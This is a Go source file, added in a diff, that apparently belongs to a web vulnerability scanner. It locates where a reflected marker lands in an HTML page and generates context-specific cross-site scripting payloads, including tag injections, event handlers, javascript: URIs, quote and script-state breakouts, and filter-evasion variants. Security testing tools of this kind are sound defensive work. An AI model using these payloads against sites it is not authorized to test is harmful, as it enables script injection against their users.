@@ -1,0 +1,375 @@
+package xss
+
+import (
+	"fmt"
+	"strings"
+
+	"golang.org/x/net/html"
+
+	"merlon/internal/engine/dast/message"
+)
+
+// This file tells where in a page a word stands, and what leaves that place.
+
+// A kind is a kind of place.
+type kind int
+
+const (
+	inText      kind = iota // between tags
+	inRaw                   // in an element whose content is text: textarea, title, style, …
+	inComment               // in a comment
+	inAttribute             // in the value of an attribute
+	inAddress               // at the beginning of an attribute that is an address
+	inHandler               // in the script of an event handler
+	inScript                // in an element script
+	inTag                   // in a tag, outside of values
+)
+
+// A context is a place.
+type context struct {
+	kind    kind
+	element string
+	name    string // of the attribute
+	quote   byte   // around the attribute's value, or the string in script; 0: none
+	state   byte   // in script: the quote, '/' in a comment to the end of the line, '*' in a block comment, '`' in a template, 0 in code
+	only    int    // number of the one payload to try; 0: all
+}
+
+// describe tells the place to people.
+func (c context) describe() string {
+	switch c.kind {
+	case inRaw:
+		return "in the text of <" + c.element + ">"
+	case inComment:
+		return "in a comment of the page"
+	case inAttribute, inAddress:
+		return fmt.Sprintf("in the attribute %s of <%s>", c.name, c.element)
+	case inHandler:
+		return fmt.Sprintf("in the event handler %s of <%s>", c.name, c.element)
+	case inScript:
+		if c.state == '\'' || c.state == '"' {
+			return "in a string of a script"
+		}
+		return "in a script"
+	case inTag:
+		return "in a tag"
+	}
+	return "between the tags of the page"
+}
+
+// addressed are attributes that a browser opens, where an address of script runs.
+var addressed = map[string]bool{"href": true, "src": true, "action": true, "formaction": true, "data": true, "xlink:href": true, "srcdoc": false}
+
+// rawText are elements whose content is no markup.
+var rawText = map[string]bool{"textarea": true, "title": true, "style": true, "noscript": true, "xmp": true, "iframe": true, "noembed": true, "noframes": true, "plaintext": true}
+
+// contexts returns the places of the word in the page, each kind once.
+func contexts(resp *message.Response, word string) []context {
+	var out []context
+	add := func(c context) {
+		for _, known := range out {
+			if known == c {
+				return
+			}
+		}
+		out = append(out, c)
+	}
+	z := html.NewTokenizer(strings.NewReader(resp.Text()))
+	open := "" // the raw element that is open
+	for {
+		switch z.Next() {
+		case html.ErrorToken:
+			return out
+		case html.TextToken:
+			raw := string(z.Raw())
+			if !strings.Contains(raw, word) {
+				continue
+			}
+			switch {
+			case open == "script":
+				for _, state := range states(raw, word) {
+					add(context{kind: inScript, element: "script", state: state})
+				}
+			case rawText[open]:
+				add(context{kind: inRaw, element: open})
+			default:
+				add(context{kind: inText})
+			}
+		case html.CommentToken:
+			if strings.Contains(string(z.Raw()), word) {
+				add(context{kind: inComment})
+			}
+		case html.StartTagToken, html.SelfClosingTagToken:
+			raw := string(z.Raw())
+			name, _ := z.TagName()
+			element := string(name)
+			if rawText[element] || element == "script" {
+				open = element
+			}
+			if strings.Contains(strings.ToLower(raw), word) {
+				for _, c := range inside(raw, element, word) {
+					add(c)
+				}
+			}
+		case html.EndTagToken:
+			open = ""
+		}
+	}
+}
+
+// inside returns the places of the word in a tag.
+func inside(raw, element, word string) []context {
+	var out []context
+	for from := 0; ; {
+		i := strings.Index(strings.ToLower(raw[from:]), word)
+		if i < 0 {
+			return out
+		}
+		i += from
+		from = i + len(word)
+		name, quote, start, ok := attributeAt(raw, i)
+		value := ""
+		if ok {
+			value = strings.TrimSpace(html.UnescapeString(raw[start:i]))
+		}
+		switch {
+		case !ok:
+			out = append(out, context{kind: inTag, element: element})
+		case strings.HasPrefix(name, "on"):
+			text := html.UnescapeString(raw[start:])
+			for _, state := range states(text[:min(len(text), len(value)+len(word)+1)], word) {
+				out = append(out, context{kind: inHandler, element: element, name: name, quote: quote, state: state})
+			}
+		case addressed[name] && value == "":
+			out = append(out, context{kind: inAddress, element: element, name: name, quote: quote})
+		case addressed[name] && strings.HasPrefix(strings.ToLower(value), "javascript:"):
+			for _, state := range states(strings.TrimSpace(html.UnescapeString(raw[start:i+len(word)])), word) {
+				out = append(out, context{kind: inHandler, element: element, name: name, quote: quote, state: state})
+			}
+		default:
+			out = append(out, context{kind: inAttribute, element: element, name: name, quote: quote})
+		}
+	}
+}
+
+// attributeAt returns the attribute in whose value the offset of a tag is, the quote
+// around it and where it begins, by the states of the HTML standard, section 13.2.5.
+func attributeAt(raw string, offset int) (name string, quote byte, start int, ok bool) {
+	i := 1
+	for i < len(raw) && !space(raw[i]) && raw[i] != '/' && raw[i] != '>' {
+		i++
+	}
+	for i < len(raw) {
+		for i < len(raw) && (space(raw[i]) || raw[i] == '/') {
+			i++
+		}
+		begin := i
+		for i < len(raw) && !space(raw[i]) && raw[i] != '=' && raw[i] != '>' && raw[i] != '/' {
+			i++
+		}
+		name = strings.ToLower(raw[begin:i])
+		if offset < i {
+			return "", 0, 0, false
+		}
+		for i < len(raw) && space(raw[i]) {
+			i++
+		}
+		if i >= len(raw) || raw[i] != '=' {
+			if i >= len(raw) || raw[i] == '>' || i == begin {
+				return "", 0, 0, false
+			}
+			continue
+		}
+		i++
+		for i < len(raw) && space(raw[i]) {
+			i++
+		}
+		if i >= len(raw) {
+			return "", 0, 0, false
+		}
+		quote, start = 0, i
+		if raw[i] == '"' || raw[i] == '\'' {
+			quote, start = raw[i], i+1
+			end := strings.IndexByte(raw[start:], quote)
+			if end < 0 {
+				return name, quote, start, offset >= start
+			}
+			i = start + end + 1
+		} else {
+			for i < len(raw) && !space(raw[i]) && raw[i] != '>' {
+				i++
+			}
+		}
+		if offset >= start && offset < i {
+			return name, quote, start, true
+		}
+	}
+	return "", 0, 0, false
+}
+
+func space(c byte) bool { return c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f' }
+
+// states returns the states of a script in which the word stands.
+func states(script, word string) []byte {
+	var out []byte
+	state, last := byte(0), byte(0)
+	for i := 0; i < len(script); i++ {
+		if strings.HasPrefix(script[i:], word) {
+			seen := false
+			for _, s := range out {
+				seen = seen || s == state
+			}
+			if !seen {
+				out = append(out, state)
+			}
+			i += len(word) - 1
+			last = 'w'
+			continue
+		}
+		c := script[i]
+		switch state {
+		case 0:
+			next := byte(0)
+			if i+1 < len(script) {
+				next = script[i+1]
+			}
+			switch {
+			case c == '\'' || c == '"' || c == '`':
+				state = c
+			case c == '/' && (next == '/' || next == '*'):
+				state = next
+				i++
+			case c == '/' && strings.IndexByte("(,=:[!&|?{};+\x00", last) >= 0:
+				state = 'r'
+			}
+			if !space(c) {
+				last = c
+			}
+		case '/':
+			if c == '\n' {
+				state = 0
+			}
+		case '*':
+			if c == '*' && i+1 < len(script) && script[i+1] == '/' {
+				state = 0
+				i++
+			}
+		default:
+			switch {
+			case c == '\\':
+				i++
+			case c == state || state == 'r' && c == '/':
+				state, last = 0, 'w'
+			case c == '\n' && state != '`':
+				state = 0
+			}
+		}
+	}
+	return out
+}
+
+// payloads returns values that leave the place, the likeliest first. The word is called
+// as a function.
+func (c context) payloads(word string) []string {
+	call := word + "(1)"
+	tags := []string{"<svg onload=" + call + ">", "<img src=x onerror=" + call + ">", "<script>" + call + "</script>", "<ScRiPt>" + call + "</sCrIpT>", "<svg/onload=" + call + "//",
+		"<a href=javascript:" + call + ">x</a>", "<scr<script>ipt>" + call + "</scr</script>ipt>"}
+	before := func(prefix string, list ...string) []string {
+		out := make([]string, len(list))
+		for i, s := range list {
+			out[i] = prefix + s
+		}
+		return out
+	}
+	q := string(c.quote)
+	if c.quote == 0 {
+		q = ""
+	}
+	switch c.kind {
+	case inText:
+		return tags
+	case inRaw:
+		return before("</"+c.element+">", tags[:5]...)
+	case inComment:
+		return append(before("-->", tags[:4]...), "--!>"+tags[0])
+	case inAddress:
+		out := []string{"javascript:" + call, "JaVaScRiPt:" + call, "java\tscript:" + call, "javascript://%0a" + call}
+		return append(out, context{kind: inAttribute, element: c.element, name: c.name, quote: c.quote}.payloads(word)...)
+	case inAttribute:
+		if q == "" {
+			return []string{"x onfocus=" + call + " autofocus tabindex=1 ", "x><svg onload=" + call + ">"}
+		}
+		return []string{q + "><svg onload=" + call + ">", q + " onfocus=" + call + " autofocus tabindex=1 x=" + q, q + "><script>" + call + "</script>", q + "/onfocus=" + call + "/autofocus/x=" + q,
+			q + "><img src=x onerror=" + call + ">"}
+	case inTag:
+		return []string{"x onfocus=" + call + " autofocus tabindex=1 ", "><svg onload=" + call + ">"}
+	case inScript:
+		return append(c.code(call), "</script><svg onload="+call+">", "</script><script>"+call+"</script>")
+	case inHandler:
+		return append(c.code(call), context{kind: inAttribute, element: c.element, name: c.name, quote: c.quote}.payloads(word)...)
+	}
+	return nil
+}
+
+// code returns values that leave the state of a script.
+func (c context) code(call string) []string {
+	q := string(c.state)
+	switch c.state {
+	case '\'', '"':
+		return []string{q + "-" + call + "-" + q, q + ";" + call + ";//", `\` + q + "-" + call + "//", `\` + q + ";" + call + ";//", q + ");" + call + ";//", q + "});" + call + ";//", q + "};" + call + ";//"}
+	case '`':
+		return []string{"${" + call + "}", "`-" + call + "-`"}
+	case '/':
+		return []string{"\n" + call + "//", "\r" + call + "//", "\u2028" + call + "//"}
+	case '*':
+		return []string{"*/" + call + "/*", "*/;" + call + ";/*"}
+	case 'r':
+		return []string{"/;" + call + ";/", "/-" + call + "-/"}
+	}
+	return []string{call, "1;" + call, "1-" + call, ";" + call + ";//", "1);" + call + ";//", "1});" + call + ";//"}
+}
+
+// stops reports whether the answer shows that nothing can leave the place: wherever
+// the word comes back, the character that had to come through is encoded, or taken out
+// of a text.
+func (c context) stops(resp *message.Response, word, payload string) bool {
+	special := "<"
+	switch c.kind {
+	case inAttribute, inAddress, inTag:
+		if c.quote == 0 || c.kind == inAddress && payload[0] != c.quote {
+			return false
+		}
+		special = string(c.quote)
+	case inScript, inHandler:
+		return false
+	}
+	text := resp.Text()
+	if !strings.Contains(text, word) {
+		return false
+	}
+	if c.kind == inText && strings.Contains(text, strings.NewReplacer("<", "", ">", "").Replace(payload)) {
+		return !strings.Contains(text, payload)
+	}
+	for i := 0; ; {
+		next := strings.Index(text[i:], word)
+		if next < 0 {
+			return true
+		}
+		before := strings.ToLower(text[max(0, i+next-60) : i+next])
+		encoded := false
+		for _, form := range encodings[special] {
+			encoded = encoded || strings.Contains(before, form)
+		}
+		if !encoded {
+			return false
+		}
+		i += next + len(word)
+	}
+}
+
+// encodings are the forms in which a character is harmless in markup.
+var encodings = map[string][]string{
+	"<": {"&lt;", "&#60;", "&#x3c;", "%3c", `\u003c`, `\x3c`},
+	`"`: {"&quot;", "&#34;", "&#x22;", "%22", `\u0022`, `\x22`},
+	"'": {"&#39;", "&#039;", "&#x27;", "&apos;", "%27", `\u0027`, `\x27`},
+}
